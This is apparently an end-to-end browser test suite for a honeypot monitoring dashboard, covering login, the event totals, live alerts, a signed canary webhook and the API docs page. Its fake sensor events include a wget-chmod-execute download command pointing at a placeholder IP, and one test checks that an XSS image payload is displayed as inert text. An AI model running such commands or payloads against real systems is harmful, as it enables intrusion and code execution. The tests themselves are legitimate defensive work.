import { createHmac } from 'node:crypto'
import { type Browser, chromium } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  SENSOR_KEY,
} from './server-process.js'

const CANARY_SECRET = 'an end-to-end canary secret'
let installation: Installation
let server: RunningServer
let browser: Browser

beforeAll(async () => {
  installation = await createInstallation({
    ADMIN_PASSWORD: PASSWORD,
    BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
    CANARY_WEBHOOK_SECRET: CANARY_SECRET,
  })
  server = await installation.start()
  browser = await chromium.launch({
    executablePath: process.env['CHROME_PATH'] ?? '/usr/bin/chromium',
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  })
})
afterAll(async () => {
  await browser.close()
  await server.kill('SIGTERM')
  installation.remove()
})

async function send(more: object): Promise<void> {
  const response = await fetch(`${installation.url}/log`, {
    method: 'POST',
    headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
    body: JSON.stringify({ source_ip: '203.0.113.7', time: new Date().toISOString(), session: 's', ...more }),
  })
  expect(response.status).toBe(200)
}

test('somebody logs in with the keyboard and sees the totals move', async () => {
  const page = await browser.newPage()
  const problems: string[] = []
  page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
  page.on('pageerror', (error) => problems.push(error.message))
  page.on('request', (request) => {
    if (!request.url().startsWith(installation.url)) problems.push(`request to ${request.url()}`)
  })
  await page.goto(installation.url)
  await page.getByLabel('Username').press('Tab')
  await page.getByLabel('Username').fill('admin')
  await page.getByLabel('Username').press('Tab')
  await page.keyboard.type(PASSWORD)
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'Last 24 hours' }).waitFor()
  expect(await page.getByTestId('Events').textContent()).toBe('0')
  await page.getByText('Nobody in the last 24 hours').waitFor()

  await send({ username: 'root', password: 'x' })
  await send({ command: 'wget http://192.0.2.1/x; chmod 777 x; ./x' })
  await page.getByTestId('Events').getByText('2', { exact: true }).waitFor()
  const attackers = page.getByRole('region', { name: 'Top attackers' })
  await attackers.getByRole('cell', { name: '203.0.113.7' }).waitFor()
  expect(problems).toEqual([])
  if (process.env['SCREENSHOT']) await page.screenshot({ path: process.env['SCREENSHOT'] })
  await page.getByRole('button', { name: 'Log out' }).click()
  await page.getByRole('heading', { name: 'Log in' }).waitFor()
  await page.close()
})

test('an alert appears while one looks, and so does a canary, with hostile text inert', async () => {
  const page = await browser.newPage()
  const dialogs: string[] = []
  page.on('dialog', (dialog) => void dialogs.push(dialog.message()))
  await page.goto(installation.url)
  await page.getByLabel('Username').fill('admin')
  await page.getByLabel('Password').fill(PASSWORD)
  await page.keyboard.press('Enter')
  const alerts = page.getByRole('region', { name: 'Live alerts' })
  await alerts.getByText('live', { exact: true }).waitFor()
  await send({ source_ip: '203.0.113.50', command: 'wget http://192.0.2.1/x; chmod 777 x; ./x; crontab -l' })
  await alerts.getByRole('cell', { name: '203.0.113.50' }).waitFor()
  const body = JSON.stringify({
    src_ip: '203.0.113.51',
    timestamp: new Date().toISOString(),
    memo: '<img src=x onerror=alert(1)>',
  })
  const signature = createHmac('sha256', CANARY_SECRET).update(body).digest('hex')
  const touched = await fetch(`${installation.url}/canary/webhook`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-canary-signature': `sha256=${signature}` },
    body,
  })
  expect(touched.status).toBe(200)
  const row = alerts.getByRole('row').filter({ hasText: '203.0.113.51' })
  await row.getByText('critical').waitFor()
  await row.getByText('<img src=x onerror=alert(1)>').waitFor()
  expect(dialogs).toEqual([])
  if (process.env['SCREENSHOT_ALERTS']) await page.screenshot({ path: process.env['SCREENSHOT_ALERTS'] })
  await page.close()
})

test('a wrong password is said so and logs nobody in', async () => {
  const page = await browser.newPage()
  await page.goto(installation.url)
  await page.getByLabel('Username').fill('admin')
  await page.getByLabel('Password').fill('wrong')
  await page.getByRole('button', { name: 'Log in' }).click()
  await page.getByText('the username or the password is wrong').waitFor()
  await page.close()
})

test('the pages of the API documentation render, and run no script that the policy would stop', async () => {
  const page = await browser.newPage()
  const problems: string[] = []
  page.on(
    'console',
    (message) => /script|refused to connect/i.test(message.text()) && problems.push(message.text()),
  )
  await page.goto(`${installation.url}/docs`)
  await page.getByText('Send what a sensor saw').waitFor()
  expect(problems).toEqual([])
  await page.close()
})
